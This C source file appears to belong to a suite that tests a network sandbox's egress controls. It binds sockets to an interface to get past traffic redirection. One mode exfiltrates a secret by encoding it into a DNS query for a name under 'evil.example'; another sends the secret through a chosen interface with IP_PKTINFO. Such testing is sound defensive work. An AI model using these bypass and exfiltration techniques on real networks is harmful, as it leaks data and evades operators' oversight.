/* SPDX-License-Identifier: Apache-2.0 */
/* Sockets bound to an interface, and addresses that mean another one. */
#define _GNU_SOURCE
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int bound(int type, const char *device)
{
	int fd = new_socket(AF_INET, type, 0);

	if (setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, device,
		       (socklen_t)strlen(device) + 1) != 0)
		return -1;
	return fd;
}

static enum verdict tcp(const struct scene *s)
{
	int fd = bound(SOCK_STREAM, "eth0");

	if (fd < 0)
		return failed("SO_BINDTODEVICE");
	return connect_to(s, fd, &s->target4, sizeof(s->target4));
}

/*
 * A question to any name server is redirected to the loopback address, but
 * this socket can only use the wire: does it leave with that address?
 */
static enum verdict dns(const struct scene *s)
{
	struct sockaddr_in to = s->target4;
	uint8_t query[512];
	char name[256];
	size_t len;
	int fd = bound(SOCK_DGRAM, "eth0");

	if (fd < 0)
		return failed("SO_BINDTODEVICE");
	to.sin_port = htons(53);
	snprintf(name, sizeof(name), "%s.evil.example", s->secret);
	len = dns_message(query, sizeof(query), 1, name, NULL);
	if (sendto(fd, query, len, 0, (const void *)&to, sizeof(to)) < 0)
		return failed("sendto");
	if (recv(fd, query, sizeof(query), 0) < 0)
		return failed("recv");
	return (query[3] & 15) == 0
		       ? say(THROUGH, "answered")
		       : say(REFUSED, "response code %d", query[3] & 15);
}

/* The interface for one packet only, by a control message. */
static enum verdict pktinfo(const struct scene *s)
{
	union {
		char bytes[CMSG_SPACE(sizeof(struct in_pktinfo))];
		struct cmsghdr align;
	} control = {0};
	struct in_pktinfo info = {.ipi_ifindex = (int)interface_index()};
	struct iovec iov = {(char *)(uintptr_t)s->secret, strlen(s->secret)};
	struct msghdr msg = {.msg_name = (char *)(uintptr_t)&s->target4,
			     .msg_namelen = sizeof(s->target4),
			     .msg_iov = &iov,
			     .msg_iovlen = 1,
			     .msg_control = control.bytes,
			     .msg_controllen = sizeof(control.bytes)};
	struct cmsghdr *cmsg = CMSG_FIRSTHDR(&msg);
	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);

	cmsg->cmsg_level = IPPROTO_IP;
	cmsg->cmsg_type = IP_PKTINFO;
	cmsg->cmsg_len = CMSG_LEN(sizeof(info));
	memcpy(CMSG_DATA(cmsg), &info, sizeof(info));
	if (sendmsg(fd, &msg, 0) < 0)
		return failed("sendmsg");
	return datagram_echoes(s, fd) ? say(THROUGH, "echoed")
				      : say(REFUSED, "not echoed");
}

const struct attack attack_device = {
	"device",
	(const struct mode[]){
		{"tcp", tcp}, {"dns", dns}, {"pktinfo", pktinfo}, {0}},
};
